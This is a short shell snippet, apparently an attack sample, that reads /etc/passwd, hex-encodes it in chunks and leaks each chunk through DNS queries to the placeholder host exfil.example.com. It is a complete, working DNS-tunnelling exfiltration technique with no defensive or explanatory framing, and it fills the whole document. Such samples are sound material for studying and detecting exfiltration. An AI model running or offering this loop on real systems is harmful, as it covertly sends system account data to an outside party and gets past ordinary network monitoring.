for c in $(cat /etc/passwd | xxd -p -c 30); do
  dig +short "$c.exfil.example.com" >/dev/null
done
